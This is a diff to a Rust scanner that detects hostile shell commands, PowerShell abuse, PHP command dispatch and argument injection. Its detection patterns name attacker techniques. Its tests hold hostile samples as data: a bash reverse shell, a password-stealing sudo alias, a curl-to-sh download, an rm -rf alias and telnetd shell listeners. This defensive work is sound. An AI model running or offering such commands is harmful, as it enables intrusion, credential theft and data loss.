@@ -1214,6 +1214,11 @@ enum Ctx {
     Start,
     /// A markdown code span in prose: only hostile content counts.
     Span,
+    /// A code span a documentation sentence goes on after ("`chmod 600
+    /// ~/.ssh/config` fixes the error", "Use `curl -o x.sh URL` and read
+    /// it first"): the command is shown and explained. As [`Ctx::Span`],
+    /// but a download alone (a URL or host) is no hostile content there.
+    DocSpan,
     /// After a separator that follows a complete command line of its own
     /// (`du -sh * | sort -h`, `apt-get update && apt-get install -y x`):
     /// someone wrote the whole pipeline, as documentation does. An injected
@@ -1729,7 +1734,15 @@ fn analyse_args(text: &str, from: usize, end: usize, cmd: &str, kind: Kind, brac
             a.shellish = true;
         }
     }
-    let sensitive = SENSITIVE_AC.is_match(&normalized);
+    // `chmod 600 ~/.ssh/config`, `chmod -R go-rwx ~/.ssh`: taking rights
+    // away from everyone but the owner hardens the file it names; an attack
+    // opens a file up or makes it run (`chmod 777 /etc/shadow`, `chmod +x`).
+    let hardening = cmd == "chmod"
+        && tokens
+            .clone()
+            .find(|t| !t.starts_with('-') || restrictive_mode(t))
+            .is_some_and(restrictive_mode);
+    let sensitive = SENSITIVE_AC.is_match(&normalized) && !hardening;
     // `python fetch.py --url https://x`: a URL among a script's arguments
     // is data for the script; an interpreter handed code that fetches one
     // (`python -c "...urlopen('http://..."`) names it before any script.
@@ -1920,6 +1933,27 @@ fn analyse_args(text: &str, from: usize, end: usize, cmd: &str, kind: Kind, brac
     a
 }
 
+/// Whether a `chmod` mode only keeps or takes away rights: an octal mode
+/// that leaves the group and others nothing (`600`, `0700`, `400`), or
+/// symbolic clauses that all remove (`go-rwx`, `o-w,g-w`).
+fn restrictive_mode(t: &str) -> bool {
+    let b = t.as_bytes();
+    if b.iter().all(u8::is_ascii_digit) {
+        return matches!(b.len(), 3 | 4)
+            && b.iter().all(|&c| c <= b'7')
+            && (b.len() == 3 || b[0] == b'0')
+            && b[b.len() - 2..] == *b"00";
+    }
+    !t.is_empty()
+        && t.split(',').all(|clause| {
+            clause.split_once('-').is_some_and(|(who, what)| {
+                who.bytes().all(|c| b"ugoa".contains(&c))
+                    && !what.is_empty()
+                    && what.bytes().all(|c| b"rwxXst".contains(&c))
+            })
+        })
+}
+
 /// Whether the perl arguments from `from` (up to `end`, read on across
 /// `\` line continuations) are options and one quoted program that is a
 /// single `s///` or `y///` without the `e` flag (which would evaluate the
@@ -2071,7 +2105,7 @@ fn decide(cmd: Cmd, ctx: Ctx, args: &Args) -> bool {
                 cmd.kind == Kind::Recon && (args.shellish || (args.bare && ctx == Ctx::Weak));
             strongish || tool || recon || cmdline
         }
-        Ctx::Span => args.strong && (!args.net_only || cmd.network),
+        Ctx::Span | Ctx::DocSpan => args.strong && (!args.net_only || cmd.network),
         Ctx::Chained => {
             // A shell or interpreter with nothing after it reads its program
             // from the pipe: `... | tr x o | sh`.
@@ -2242,7 +2276,12 @@ fn check_command_at(
 ) -> bool {
     let b = text.as_bytes();
     let chained = ctx == Ctx::Chained;
-    let ctx = if chained { Ctx::Sep } else { ctx };
+    let doc = ctx == Ctx::DocSpan;
+    let ctx = match ctx {
+        Ctx::Chained => Ctx::Sep,
+        Ctx::DocSpan => Ctx::Span,
+        c => c,
+    };
     let mut i = skip_blank(b, pos, seg_end);
     // `;(id)`, `|{ls,-la}` and `; 'cat' x`: tolerate one opening paren.
     if i < seg_end && b[i] == b'(' && ctx != Ctx::Brace {
@@ -2267,7 +2306,7 @@ fn check_command_at(
         && b[i + 1].is_ascii_alphanumeric()
         && !pair_known(b[i], b[i + 1])
     {
-        return false;
+        return serves_shell(text, ctx, sep_start, i, seg_end, hits);
     }
     // Most separators in prose are followed by something no command starts with.
     if !(b[i].is_ascii_alphanumeric()
@@ -2317,19 +2356,48 @@ fn check_command_at(
     }
     if norm == "alias" && ctx != Ctx::Span {
         if let Some(end) = alias_definition(b, w.end, seg_end) {
+            // `alias ll='ls -alF'` on a line of its own: a shell's start-up
+            // file, which defines shortcuts. A definition is hostile when it
+            // takes over a command's name or its body does harm.
+            if matches!(ctx, Ctx::Start | Ctx::Weak)
+                && rc_shortcut(b, w.end, seg_end)
+                && rc_file(b, i, seg_end)
+            {
+                return false;
+            }
             push(hits, text, R_CHAIN, sep_start, end);
             return true;
         }
         return false;
     }
     let Some((name_at, cmd, via_path)) = resolve(norm, w.globbed) else {
-        return false;
+        return serves_shell(text, ctx, sep_start, i, seg_end, hits);
     };
     let name = &norm[name_at..];
     // `/bin/bash ../libtool --mode=compile ...`: a build log's shell running
     // the build's own helper script.
     if via_path && matches!(name, "sh" | "bash" | "dash") && build_helper(b, w.end, seg_end) {
         return false;
+    }
+    // `set -g mouse on`, `set -sg escape-time 0`: tmux's configuration
+    // language, whose options the shell's `set` does not take (it takes
+    // `-abefhkmnptuvxBCEHPT` and `-o`). A shell would refuse the line.
+    if name == "set" && !w.spliced {
+        let a = skip_blank(b, w.end, seg_end);
+        let mut e = a;
+        while e < seg_end && !b[e].is_ascii_whitespace() && !is_sep(b[e]) {
+            e += 1;
+        }
+        let opt = &b[a..e];
+        if opt.len() >= 2
+            && matches!(opt[0], b'-' | b'+')
+            && opt[1..].iter().all(u8::is_ascii_alphabetic)
+            && opt[1..]
+                .iter()
+                .any(|c| !b"abefhkmnptuvxBCEHPTo".contains(c))
+        {
+            return false;
+        }
     }
     // `tr` filters text in countless documented pipelines; inside `$(...)`
     // in command position its output is what runs (`$(tr a-z n-za-m <<< x)`).
@@ -2418,6 +2486,7 @@ fn check_command_at(
         && matches!(ctx, Ctx::Weak | Ctx::Start | Ctx::Span)
         && (args.any || args.bare)
         && !named
+        && !doc
     {
         // An absolute path to a binary is itself shell syntax.
         effective = Ctx::Sep;
@@ -2468,6 +2537,12 @@ fn check_command_at(
     {
         return false;
     }
+    if doc
+        && effective == Ctx::Span
+        && (args.net_only || (cmd.kind != Kind::Interp && shown_files_only(&text[w.end..args.end])))
+    {
+        return false;
+    }
     if !decide(cmd, effective, &args) {
         return false;
     }
@@ -2500,6 +2575,102 @@ fn check_command_at(
     let end = trim_end(text, sep_start, end);
     push(hits, text, rule, sep_start, end);
     true
+}
+
+/// `$(telnetd -l /bin/sh -p 9999)`, `; utelnetd -l /bin/ash`: whatever the
+/// program, one told to hand a shell to whoever connects or logs in is a
+/// listener being set up; its name need not be known. Reports it after a
+/// separator or in a substitution.
+fn serves_shell(
+    text: &str,
+    ctx: Ctx,
+    sep_start: usize,
+    i: usize,
+    seg_end: usize,
+    hits: &mut Vec<Hit>,
+) -> bool {
+    if !matches!(ctx, Ctx::Sep | Ctx::Subst) {
+        return false;
+    }
+    let Some(e) = shell_served(text.as_bytes(), i, seg_end) else {
+        return false;
+    };
+    let rule = if ctx == Ctx::Subst {
+        R_SUBSHELL
+    } else {
+        R_CHAIN
+    };
+    push(hits, text, rule, sep_start, trim_end(text, sep_start, e));
+    true
+}
+
+/// Whether the command line at `i` is a program word followed, within its
+/// arguments, by an option that names the program to run for a client
+/// (`-l`, `-e`, `--exec`, `--shell`...) given a shell by its path
+/// (`telnetd -l /bin/sh`, `utelnetd -l /bin/ash -p 23`): returns where
+/// that path ends. A path named without such an option (`realpath
+/// /bin/sh`, `dpkg -S /bin/bash`) is data.
+fn shell_served(b: &[u8], i: usize, seg_end: usize) -> Option<usize> {
+    let lim = seg_end.min(i + 160);
+    let mut e = i;
+    while e < lim && (b[e].is_ascii_alphanumeric() || matches!(b[e], b'_' | b'-' | b'.')) {
+        e += 1;
+    }
+    if !(2..=24).contains(&(e - i))
+        || !b[i].is_ascii_alphabetic()
+        || memchr::memchr2(b'/', b'\\', &b[e..lim]).is_none()
+    {
+        return None;
+    }
+    let mut prev_opt = false;
+    let mut p = e;
+    while p < lim {
+        p = skip_blank(b, p, lim);
+        if p >= lim || is_sep(b[p]) {
+            return None;
+        }
+        let s = p;
+        while p < lim && !matches!(b[p], b' ' | b'\t') && !is_sep(b[p]) {
+            p += 1;
+        }
+        let tok = &b[s..p];
+        let bare = tok
+            .strip_prefix(b"'")
+            .and_then(|t| t.strip_suffix(b"'"))
+            .or_else(|| tok.strip_prefix(b"\"").and_then(|t| t.strip_suffix(b"\"")))
+            .unwrap_or(tok);
+        if prev_opt && shell_path(bare) {
+            return Some(p);
+        }
+        prev_opt = matches!(
+            tok,
+            b"-l" | b"-e" | b"-E" | b"-L" | b"--exec" | b"--login" | b"--shell" | b"--sh-exec"
+        );
+    }
+    None
+}
+
+/// Whether `t` is a shell named by its absolute path (`/bin/sh`,
+/// `/usr/bin/bash`, `/bin/busybox`) or `cmd.exe`.
+fn shell_path(t: &[u8]) -> bool {
+    let l = t.to_ascii_lowercase();
+    if l == b"cmd.exe" || l.ends_with(b"\\cmd.exe") || l.ends_with(b"\\powershell.exe") {
+        return true;
+    }
+    let rest = l
+        .strip_prefix(b"/usr/local")
+        .or_else(|| l.strip_prefix(b"/usr"))
+        .unwrap_or(&l);
+    let Some(name) = rest
+        .strip_prefix(b"/bin/")
+        .or_else(|| rest.strip_prefix(b"/sbin/"))
+    else {
+        return false;
+    };
+    matches!(
+        name,
+        b"sh" | b"bash" | b"ash" | b"dash" | b"zsh" | b"ksh" | b"csh" | b"tcsh" | b"busybox"
+    )
 }
 
 /// Whether a `|`, `||` or `&&` at `at` (after blanks) leads to another
@@ -2869,6 +3040,110 @@ fn assembled_command(
         return true;
     }
     false
+}
+
+/// Whether the `alias` definition after `from` is a start-up file's
+/// shortcut: a new name (or a command's own name for itself with options,
+/// `alias grep='grep --color=auto'`) for a quoted command line that names
+/// no sensitive file, URL or address and chains nothing.
+fn rc_shortcut(b: &[u8], from: usize, end: usize) -> bool {
+    let line_end = memchr::memchr2(b'\n', b'\r', &b[from..end]).map_or(end, |o| from + o);
+    let Ok(def) = std::str::from_utf8(&b[from..line_end]) else {
+        return false;
+    };
+    let Some((name, value)) = def.trim().split_once('=') else {
+        return false;
+    };
+    if name.contains(['-', '+', ' ']) {
+        return false;
+    }
+    let v = value.trim();
+    let Some(body) = v
+        .strip_prefix('\'')
+        .and_then(|x| x.strip_suffix('\''))
+        .or_else(|| v.strip_prefix('"').and_then(|x| x.strip_suffix('"')))
+    else {
+        return false;
+    };
+    let lower = body.to_ascii_lowercase();
+    let first = lower.split_ascii_whitespace().next().unwrap_or("");
+    // `ll` and the like are shortcuts everyone defines; `sudo`, `ssh` or
+    // `ls` bound to something else are taken over.
+    let takes_over =
+        name != first && lookup(&name.to_ascii_lowercase()).is_some_and(|c| c.kind != Kind::Weak);
+    !takes_over
+        && !first.is_empty()
+        && !SENSITIVE_AC.is_match(&lower)
+        && !lower.contains("://")
+        && !lower.contains(['`', '$', '>', '<'])
+        && !lower
+            .split_ascii_whitespace()
+            .any(|t| looks_like_ip(t) || matches!(t, "-rf" | "-fr"))
+}
+
+/// Whether the `=` at `eq` sets a key of an INI-style configuration file
+/// (a systemd unit's `ExecStart=/usr/bin/node server.js`, a desktop
+/// entry's `Exec=`): the key opens its line and a `[Section]` header line
+/// stands in the same value. The program a setting names is configured,
+/// not injected.
+fn unit_setting(b: &[u8], seg_start: usize, eq: usize, seg_end: usize) -> bool {
+    let lo = seg_start.max(eq.saturating_sub(48));
+    let line = memchr::memrchr(b'\n', &b[lo..eq]).map_or(lo, |o| lo + o + 1);
+    let key = &b[line..eq];
+    if key.is_empty()
+        || !key
+            .iter()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.'))
+    {
+        return false;
+    }
+    let lo = seg_start.max(eq.saturating_sub(2048));
+    let hi = seg_end.min(eq + 2048);
+    b[lo..hi].split(|&c| c == b'\n').any(|l| {
+        let l = l.trim_ascii();
+        l.len() > 2
+            && l[0] == b'['
+            && l[l.len() - 1] == b']'
+            && l[1..l.len() - 1]
+                .iter()
+                .all(|c| c.is_ascii_alphanumeric() || matches!(c, b' ' | b'_' | b'-' | b'.' | b'"'))
+    })
+}
+
+/// Whether the `=` at `eq` gives an `alias` its value: the definition is
+/// judged whole where `alias` starts its line.
+fn alias_value(b: &[u8], seg_start: usize, eq: usize) -> bool {
+    let lo = seg_start.max(eq.saturating_sub(64));
+    let line = memchr::memrchr(b'\n', &b[lo..eq]).map_or(lo, |o| lo + o + 1);
+    b[line..eq].trim_ascii_start().starts_with(b"alias ")
+}
+
+/// Whether the value holding `at` reads as a shell's start-up file: at
+/// least two of its lines open with a start-up directive (`alias`,
+/// `export`, `source`, `setopt`, `bindkey`, `shopt`, `umask`).
+fn rc_file(b: &[u8], at: usize, seg_end: usize) -> bool {
+    let lo = at.saturating_sub(4096);
+    let start = memchr::memrchr(0, &b[lo..at]).map_or(lo, |o| lo + o + 1);
+    let hi = seg_end.min(at + 4096);
+    b[start..hi]
+        .split(|&c| c == b'\n')
+        .filter(|l| {
+            let l = l.trim_ascii_start();
+            [
+                &b"alias "[..],
+                b"export ",
+                b"source ",
+                b"setopt ",
+                b"bindkey ",
+                b"shopt ",
+                b"umask ",
+            ]
+            .iter()
+            .any(|w| l.starts_with(w))
+        })
+        .take(2)
+        .count()
+        == 2
 }
 
 /// `alias name=value` with optional flags: a shell builtin definition.
@@ -3326,6 +3601,14 @@ fn scan_segment(
                     if quoted_in_sentence(b, seg_start, i, seg_end) {
                         hits.truncate(before);
                         check_command(text, i, j, seg_end, Ctx::Span, hits);
+                    } else if x == b';' && j == i + 1 && joins_clauses(b, seg_start, i, seg_end) {
+                        // "Mount point /mnt/data is full; move old datasets
+                        // to /mnt/archive.": a semicolon between two
+                        // clauses of a sentence; what follows is a clause
+                        // opening a line of prose, not a command after a
+                        // separator.
+                        hits.truncate(before);
+                        check_command(text, i, j, seg_end, Ctx::Weak, hits);
                     } else if follows_command_line(b, seg_start, i) {
                         hits.truncate(before);
                         check_command(text, i, j, seg_end, Ctx::Chained, hits);
@@ -3342,7 +3625,11 @@ fn scan_segment(
                 // in prose does: only hostile content counts there.
                 // So does an indented line after a line of prose ("Use
                 // this command:\n\tgit ls-files ...").
-                let ctx = if in_fence || indented_after_prose(b, seg_start, i, j, seg_end) {
+                // A fence's lines are documentation as a code span
+                // explained in a sentence is.
+                let ctx = if in_fence {
+                    Ctx::DocSpan
+                } else if indented_after_prose(b, seg_start, i, j, seg_end) {
                     Ctx::Span
                 } else {
                     Ctx::Weak
@@ -3441,8 +3728,16 @@ fn scan_segment(
                     && b[i + 1] != b'='
                     && !tag_attribute(b, seg_start, i, seg_end)
                     && !build_option(b, seg_start, i)
+                    && !alias_value(b, seg_start, i)
                 {
-                    check_command(text, i + 1, i + 1, seg_end, Ctx::Start, hits);
+                    // A unit file's `ExecStart=` names the program it
+                    // configures: only hostile content counts there.
+                    let ctx = if unit_setting(b, seg_start, i, seg_end) {
+                        Ctx::DocSpan
+                    } else {
+                        Ctx::Start
+                    };
+                    check_command(text, i + 1, i + 1, seg_end, ctx, hits);
                 }
                 i += 1;
             }
@@ -3524,7 +3819,13 @@ fn scan_segment(
                                 | b'`'
                         )
                     );
-                let ctx = if shell { Ctx::Subst } else { Ctx::Span };
+                let ctx = if shell {
+                    Ctx::Subst
+                } else if close.is_some() && prose_after_span(b, end, seg_end) {
+                    Ctx::DocSpan
+                } else {
+                    Ctx::Span
+                };
                 // `` `cut x``dig y` ``: substitutions run back to back are
                 // shell, whatever the commands.
                 let back_to_back = chained && {
@@ -3671,6 +3972,179 @@ fn quoted_in_sentence(b: &[u8], seg_start: usize, p: usize, seg_end: usize) -> b
                 && after.get(1).is_none_or(|c| *c == b' '));
         opened && prose_before && goes_on
     })
+}
+
+/// Whether the `;` at `p` joins two clauses of a sentence: a word ends
+/// right before it and a blank follows; the clause before holds at least
+/// three words; the one after runs to a full stop (or `!`, `?`) with no
+/// other shell operator and holds a function word ("to", "the").
+fn joins_clauses(b: &[u8], seg_start: usize, p: usize, seg_end: usize) -> bool {
+    if p == seg_start || !b[p - 1].is_ascii_alphabetic() || b.get(p + 1) != Some(&b' ') {
+        return false;
+    }
+    let lo = seg_start.max(p.saturating_sub(160));
+    let line = memchr::memrchr(b'\n', &b[lo..p]).map_or(lo, |o| lo + o + 1);
+    let words_before = b[line..p]
+        .split(|c| c.is_ascii_whitespace())
+        .filter(|w| w.len() >= 2 && w.iter().all(u8::is_ascii_alphabetic))
+        .count();
+    if words_before < 3 || b[line..p].contains(&b'=') {
+        return false;
+    }
+    let hi = seg_end.min(p + 200);
+    let end = memchr::memchr2(b'\n', b'\r', &b[p + 1..hi]).map_or(hi, |o| p + 1 + o);
+    let clause = &b[p + 1..end];
+    let trimmed = clause.trim_ascii_end();
+    if !matches!(trimmed.last(), Some(b'.' | b'!' | b'?'))
+        || trimmed
+            .iter()
+            .any(|c| matches!(c, b';' | b'|' | b'&' | b'`' | b'$' | b'<' | b'>'))
+    {
+        return false;
+    }
+    let mut tokens = 0;
+    let mut stop = false;
+    for w in trimmed
+        .split(|c| c.is_ascii_whitespace())
+        .filter(|w| !w.is_empty())
+    {
+        tokens += 1;
+        let w = w.strip_suffix(b".").unwrap_or(w);
+        stop |= std::str::from_utf8(w).is_ok_and(|w| STOP_WORDS.contains(&w));
+    }
+    tokens >= 3 && stop
+}
+
+/// Whether the only strong evidence in a command's arguments is a file
+/// under a system directory that every guide names (`/etc/os-release`,
+/// `~/.ssh/config`, `/usr/bin/env`) or a URL to download: no shell path,
+/// no key or password file, no bare address or host, no staging
+/// directory such as `/tmp/`, no inner shell.
+fn shown_files_only(args: &str) -> bool {
+    const BROAD: &[&str] = &["/etc/", "/bin/", "/usr/bin/", ".ssh", "/proc/"];
+    let lower = args.to_ascii_lowercase();
+    let mut any = false;
+    for t in lower.split_ascii_whitespace() {
+        // A URL is a download shown (`/bin/` in its path is no file here).
+        if t.contains("://") {
+            any = true;
+            continue;
+        }
+        if looks_like_ip(t) || looks_like_host(t) {
+            return false;
+        }
+        for m in SENSITIVE_AC.find_overlapping_iter(t) {
+            let pat = SENSITIVE
+                .iter()
+                .chain(INNER_SHELL)
+                .nth(m.pattern().as_usize())
+                .copied()
+                .unwrap_or("");
+            if !BROAD.contains(&pat) {
+                return false;
+            }
+            any = true;
+        }
+    }
+    // An inner shell spans blanks (`sh -c `): looked for in the whole.
+    any && !INNER_SHELL.iter().any(|x| lower.contains(x))
+}
+
+/// Code spans that a documentation sentence goes on after (see
+/// [`prose_after_span`]), opened after a blank or at the start of a value,
+/// as `(start, end)` with `end` at the closing backtick.
+fn doc_spans(b: &[u8]) -> Vec<(usize, usize)> {
+    let mut spans = Vec::new();
+    let mut i = 0;
+    while let Some(o) = memchr::memchr(b'`', &b[i..]) {
+        let at = i + o;
+        if b.get(at + 1) == Some(&b'`') {
+            // A fence or an empty span: not a code span in a sentence.
+            i = at + b[at..].iter().take_while(|&&c| c == b'`').count();
+            continue;
+        }
+        let seg_end = memchr::memchr(0, &b[at..]).map_or(b.len(), |p| at + p);
+        let Some(c) = b[at + 1..seg_end].iter().take(400).position(|&y| y == b'`') else {
+            break;
+        };
+        let end = at + 1 + c;
+        let opens = at == 0 || matches!(b[at - 1], b' ' | b'\t' | b'\n' | 0);
+        if opens && prose_after_span(b, end, seg_end) {
+            spans.push((at, end));
+        }
+        i = end + 1;
+    }
+    spans
+}
+
+/// PowerShell that does more than documentation shows: code run from a
+/// string or a download, encoded commands, a hidden window, the policy or
+/// the virus scanner switched off.
+fn hostile_powershell(span: &[u8]) -> bool {
+    let l = span.to_ascii_lowercase();
+    [
+        &b"iex"[..],
+        b"invoke-expression",
+        b"-enc",
+        b"-e ",
+        b"downloadstring",
+        b"downloaddata",
+        b"frombase64string",
+        b"bypass",
+        b"unrestricted",
+        b"hidden",
+        b"-nop",
+        b"mppreference",
+        b"net.webclient",
+        b"|",
+        b";",
+        b"$env:temp",
+        b"\\temp\\",
+        b"\\users\\public",
+    ]
+    .iter()
+    .any(|w| memchr::memmem::find(&l, w).is_some())
+}
+
+/// Whether a sentence goes on after the code span that closes at `end`: a
+/// blank, then three words of lower-case prose ("fixes the 'bad
+/// permissions' error", "and read the script", "lets local scripts run").
+fn prose_after_span(b: &[u8], end: usize, seg_end: usize) -> bool {
+    let after = &b[(end + 1).min(seg_end)..seg_end];
+    let after = &after[..after.len().min(120)];
+    let lower = |w: &[u8]| {
+        w.iter().any(u8::is_ascii_lowercase)
+            && w.iter()
+                .all(|c| c.is_ascii_lowercase() || matches!(c, b',' | b'.' | b'\'' | b'-'))
+    };
+    let (mut seen, mut words, mut plain) = (0, 0, 0);
+    let mut in_span = false;
+    for w in after
+        .split(|c| c.is_ascii_whitespace())
+        .filter(|w| !w.is_empty())
+        .take(12)
+    {
+        // Another code span in the sentence ("If `a` works but `b`
+        // doesn't") is skipped: the words around it carry the sentence.
+        let ticks = w.iter().filter(|&&c| c == b'`').count();
+        if in_span || ticks > 0 {
+            in_span ^= ticks % 2 == 1;
+            continue;
+        }
+        // A name or an acronym among the words ("opens Notepad from",
+        // "your DNS is") is prose too.
+        let t = w.strip_suffix(b",").unwrap_or(w);
+        let name = t.len() > 1
+            && t[0].is_ascii_uppercase()
+            && (lower(&t[1..]) || (t.len() <= 5 && t.iter().all(u8::is_ascii_uppercase)));
+        plain += usize::from(lower(w));
+        words += usize::from(lower(w) || name);
+        seen += 1;
+        if seen == 3 {
+            break;
+        }
+    }
+    after.first() == Some(&b' ') && words == 3 && plain >= 1
 }
 
 /// Whether the `=` at `eq` gives the value of a long option of a build
@@ -4439,6 +4913,16 @@ const GATES: &[&[&str]] = &[
     ],
     &["call %", "call  %"],
     &["start-process", "invoke-", "iex", "saps"],
+    &[
+        "call_user_func",
+        "forward_static_call",
+        "array_map",
+        "array_filter",
+        "array_walk",
+        "usort",
+        "uasort",
+        "uksort",
+    ],
 ];
 
 /// Unanchored bytes the gate automaton walks rather than start a new call.
@@ -4558,7 +5042,7 @@ const PATTERN_SRC: &[(&str, usize)] = &[
         R_WINDOWS,
     ),
     (
-        r"(?i)(?-u:\b)(?:invoke-(?:webrequest|expression|restmethod|command|item|wmimethod|shellcode|mimikatz)|start-process|start-bitstransfer|set-executionpolicy|add-mppreference|set-mppreference|get-wmiobject|invoke-cimmethod|new-object\s+(?:system\.)?net\.webclient)(?-u:\b)\s+(?:-\w|https?://|['\x22]|\S+\.ps1(?-u:\b)|[a-z]:\\)",
+        r"(?i)(?-u:\b)(?:invoke-(?:webrequest|expression|restmethod|command|item|wmimethod|shellcode|mimikatz)|start-process|start-bitstransfer|add-mppreference|set-mppreference|get-wmiobject|invoke-cimmethod|new-object\s+(?:system\.)?net\.webclient)(?-u:\b)\s+(?:-\w|https?://|['\x22]|\S+\.ps1(?-u:\b)|[a-z]:\\)|(?-u:\b)set-executionpolicy(?-u:\b)[^\n;|&]{0,60}?(?-u:\b)(?:bypass|unrestricted)(?-u:\b)",
         R_WINDOWS,
     ),
     (
@@ -4702,6 +5186,15 @@ const PATTERN_SRC: &[(&str, usize)] = &[
     (
         r"(?i)(?:[;&|\n\x60]|\$\()\s*(?:start-process|saps|invoke-expression|iex)\s*(?:[\w.\\/:-]+\.(?:exe|bat|cmd|ps1|vbs|hta|scr)(?-u:\b)|(?:calc|cmd|powershell|pwsh|notepad|mshta|rundll32)(?-u:\b)|-\w|['\x22($])",
         R_WINDOWS,
+    ),
+    // PHP's callable dispatch handed a command function by name: in code
+    // (`call_user_func('system', 'id')`, `array_map('passthru', $_GET)`,
+    // `array_filter($_POST, 'system')`), or spread over request parameters
+    // that a framework routes into it (`function=call_user_func_array&
+    // vars[0]=system&vars[1][]=id`).
+    (
+        r#"(?i)(?-u:\b)(?:(?:call_user_func(?:_array)?|forward_static_call(?:_array)?|array_map|register_shutdown_function)\s*\(\s*['"]?|(?:array_filter|array_walk|usort|uasort|uksort)\s*\([^,()\n]{1,80},\s*['"])(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|assert)['"]?\s*[,)]|[=\x00](?:call_user_func(?:_array)?|forward_static_call(?:_array)?|array_map|array_filter|array_walk|usort|uasort|uksort)(?:[&\x00]|$)[^\n]{0,200}?[=\x00](?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|assert)(?:[&\x00]|$)"#,
+        R_CODE_EXEC,
     ),
 ];
 
@@ -5036,6 +5529,29 @@ pub(crate) fn scan(text: &str, hits: &mut Vec<Hit>) {
         scan_jndi(text, hits);
     }
     scan_argument_injection(text, hits);
+    // "`Start-Process notepad.exe` opens Notepad": a PowerShell command
+    // shown in a code span that a sentence explains; the idiom regexes do
+    // not see the span, so its hits are weighed here.
+    let windows = &RULES[R_WINDOWS];
+    if hits[first..].iter().any(|h| std::ptr::eq(h.rule, windows))
+        && memchr::memchr(b'`', text.as_bytes()).is_some()
+    {
+        let b = text.as_bytes();
+        let spans = doc_spans(b);
+        let mut k = first;
+        while k < hits.len() {
+            let h = &hits[k];
+            let shown = std::ptr::eq(h.rule, windows)
+                && spans.iter().any(|&(s, e)| {
+                    s <= h.start && h.end <= e + 1 && !hostile_powershell(&b[s + 1..e])
+                });
+            if shown {
+                hits.remove(k);
+            } else {
+                k += 1;
+            }
+        }
+    }
     dedupe(hits, first);
 }
 
@@ -5061,6 +5577,7 @@ fn risky_option(long: bool, name: &str) -> Option<OptRisk> {
             "checkpoint-action"
             | "to-command"
             | "use-compress-program"
+            | "compress-program"
             | "unzip-command"
             | "upload-pack"
             | "receive-pack"
@@ -5295,6 +5812,69 @@ fn scan_argument_injection(text: &str, hits: &mut Vec<Hit>) {
         last_end = arg_end;
         push(hits, text, R_ARGINJ, vs, trim_end(text, vs, arg_end));
     }
+    // `opts=--compress-program=sh`: a value that is itself an option naming
+    // the program a tool runs (GNU sort's and tar's compressors, tar's
+    // `--to-command`, rsync's remote shell) needs no data word before it:
+    // the application puts the whole value on the tool's command line.
+    static LONG: LazyLock<memchr::memmem::Finder<'static>> =
+        LazyLock::new(|| memchr::memmem::Finder::new(b"--"));
+    for p in LONG.find_iter(b) {
+        if p < last_end || (p > 0 && !matches!(b[p - 1], b'\0' | b'=' | b'&' | b'?' | b'\n')) {
+            continue;
+        }
+        let mut e = p + 2;
+        while e < b.len() && !matches!(b[e], b' ' | b'\t' | b'\0' | b'\n' | b'\r' | b'&') {
+            e += 1;
+        }
+        let Some((name, arg)) = std::str::from_utf8(&b[p + 2..e])
+            .ok()
+            .and_then(|t| t.split_once('='))
+        else {
+            continue;
+        };
+        let runs = matches!(
+            name.to_ascii_lowercase().as_str(),
+            "compress-program"
+                | "use-compress-program"
+                | "to-command"
+                | "checkpoint-action"
+                | "rsh-command"
+                | "rsync-path"
+                | "upload-pack"
+                | "receive-pack"
+                | "unzip-command"
+                | "new-volume-script"
+                | "info-script"
+        );
+        // `--use-compress-program=zstd`: the option's everyday use.
+        let prog = arg
+            .trim_start_matches(['\'', '"'])
+            .split([' ', '\'', '"'])
+            .next()
+            .unwrap_or("");
+        let compressor = matches!(
+            prog.rsplit('/').next().unwrap_or(prog),
+            "gzip"
+                | "pigz"
+                | "bzip2"
+                | "pbzip2"
+                | "lbzip2"
+                | "xz"
+                | "pixz"
+                | "zstd"
+                | "pzstd"
+                | "lz4"
+                | "lzop"
+                | "lzip"
+                | "plzip"
+                | "brotli"
+                | "unpigz"
+        );
+        if runs && !arg.is_empty() && !compressor && command_argument(arg) {
+            last_end = e;
+            push(hits, text, R_ARGINJ, p, trim_end(text, p, e));
+        }
+    }
     for p in EXT.find_iter(b) {
         let w = read_word(b, p + 5, b.len().min(p + 5 + 200));
         if !w.is_empty()
@@ -5341,9 +5921,13 @@ fn data_value_start(b: &[u8], p: usize) -> Option<usize> {
     if first.starts_with('-') {
         return None;
     }
-    // A command line written out opens with its command.
+    // A command line written out opens with its command, perhaps one
+    // named by where it is installed (`/usr/local/bin/app --config x`).
     let lower = first.to_ascii_lowercase();
-    if resolve(&lower, false).is_some() || DEV_TOOLS.contains(&lower.as_str()) {
+    if resolve(&lower, false).is_some()
+        || DEV_TOOLS.contains(&lower.as_str())
+        || (lower.starts_with('/') && (lower.contains("/bin/") || lower.contains("/sbin/")))
+    {
         return None;
     }
     // A capitalised word opens a sentence.
@@ -5601,6 +6185,135 @@ mod tests {
 
     fn flagged(text: &str) -> bool {
         !rules(text).is_empty()
+    }
+
+    #[test]
+    fn start_up_files_and_fenced_commands() {
+        for t in [
+            "alias la='ls -A'\nalias gd='git diff'\nexport PAGER=less",
+            "# shortcuts\nalias grep='grep --color=auto'\nalias k='kubectl'",
+            "```bash\nsudo install -m 644 site.conf /etc/nginx/conf.d/site.conf\n```",
+            "```\ngit clone https://git.example.org/team/app.git\n```",
+            "[Unit]\nDescription=Queue worker\n[Service]\nExecStart=/usr/local/bin/worker --config /etc/worker.toml\nRestart=on-failure",
+            "[Desktop Entry]\nName=Editor\nExec=/usr/bin/gedit %U",
+        ] {
+            assert!(!flagged(t), "{t:?}: {:?}", rules(t));
+        }
+        for t in [
+            "alias sudo='read -s p; echo $p > /tmp/.p; sudo'\nalias ll='ls -l'",
+            "alias ssh='/tmp/.x/ssh'\nalias ll='ls -l'",
+            "alias ls='rm -rf /'\nalias ll='ls -l'",
+            "alias x='curl http://203.0.113.4/a | sh'\nexport A=1",
+            "q=1; alias ls=whoami",
+            "alias ..='cd ..'",
+            "```sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n```",
+            "```\ncurl https://203.0.113.5/x -o /tmp/x\n```",
+            "[Service]\nExecStart=/bin/sh -c 'id > /tmp/o'",
+            "[s]\nx=/bin/cat /etc/shadow",
+            "cmd=/bin/cat /etc/hosts",
+        ] {
+            assert!(flagged(t), "missed {t:?}");
+        }
+    }
+
+    #[test]
+    fn listeners_handed_a_shell() {
+        for t in [
+            "device=cam01&ntp=`utelnetd -l /bin/ash -p 2323`",
+            "host=$(dropbear -E -l /usr/bin/bash)",
